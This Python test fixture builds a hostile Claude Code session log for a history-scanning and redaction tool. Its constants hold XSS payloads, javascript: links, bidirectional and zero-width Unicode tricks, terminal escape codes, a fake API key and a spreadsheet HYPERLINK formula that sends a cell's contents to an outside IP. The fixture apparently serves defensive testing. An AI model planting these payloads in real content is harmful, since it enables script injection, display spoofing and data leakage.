"""A history in which everything wants to be more than text."""

from __future__ import annotations

import json
from pathlib import Path

from seasoned.config import Config
from seasoned.redact.key import Secrecy, load_key
from seasoned.scan.scan import ScanTarget, scan

NATIVE_ID = "11111111-2222-4333-8444-555555555555"
REF = f"claude-code:{NATIVE_ID}"
SCRIPT = "</pre></title></textarea></script><script>alert(1)</script><img src=x onerror=alert(2)>"
LINK = "[click](javascript:alert(3)) <a href='javascript:alert(4)'>here</a> <svg onload=alert(5)>"
TURNED = "pay \u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth\u00a0\u3164 \ufeff"
COLOURED = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x9b31m \x08\x08\x00 bell\x07"
SECRET = "sk-ant-api03-" + "Ab3dEf6hIj" * 9
FORMULA = '=HYPERLINK("http://203.0.113.5/"&A1)'
LONG = "0123456789abcde\n" * (2_000_000 // 16)
ALL = f"{SCRIPT} {LINK} {TURNED} {COLOURED} {FORMULA}"
_IMAGE = {
    "type": "image",
    "source": {"type": "base64", "media_type": "image/svg+xml", "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
}


def fill_hostile(home: Path, folder: Path) -> None:
    """Writes the file and reads it into the store of the home."""
    path = folder / "-home-mira-project" / f"{NATIVE_ID}.jsonl"
    path.parent.mkdir(parents=True)
    path.write_text("".join(json.dumps(line) + "\n" for line in _lines()), encoding="utf-8")
    scan(ScanTarget(Config(home=home).store_path), [folder], Secrecy(load_key(home)), workers=1)


def _lines() -> list[dict[str, object]]:
    results = [ALL, LONG + ALL, [{"type": "text", "text": ALL}, _IMAGE], f"key is {SECRET}"]
    lines = [_line(0, "user", [{"type": "text", "text": f"Look: {ALL}"}, _IMAGE])]
    lines.append({"type": "summary", "summary": ALL, "leafUuid": "u0"})
    for number, result in enumerate(results):
        arguments = {"command": f"echo {ALL}", SCRIPT: TURNED, "url": "javascript:alert(6)"}
        use = {"type": "tool_use", "id": f"toolu_{number}<b>", "name": f"Bash{SCRIPT}", "input": arguments}
        lines.append(
            _line(
                2 * number + 1, "assistant", [{"type": "thinking", "thinking": ALL}, {"type": "text", "text": ALL}, use]
            )
        )
        answer = {"type": "tool_result", "tool_use_id": f"toolu_{number}<b>", "content": result, "is_error": not number}
        lines.append(_line(2 * number + 2, "user", [answer]))
    return lines


def _line(number: int, role: str, content: list[dict[str, object]]) -> dict[str, object]:
    message: dict[str, object] = {"role": role, "content": content}
    if role == "assistant":
        message |= {"id": f"msg_{number}", "type": "message", "model": f"large{SCRIPT}", "usage": {"input_tokens": 3}}
    return {
        "type": role,
        "uuid": f"u{number}",
        "parentUuid": f"u{number - 1}" if number else None,
        "sessionId": NATIVE_ID,
        "timestamp": f"2026-05-01T10:00:{number:02d}.000Z",
        "cwd": f"/home/{SCRIPT}",
        "version": "2.0.0",
        "isSidechain": False,
        "message": message,
    }
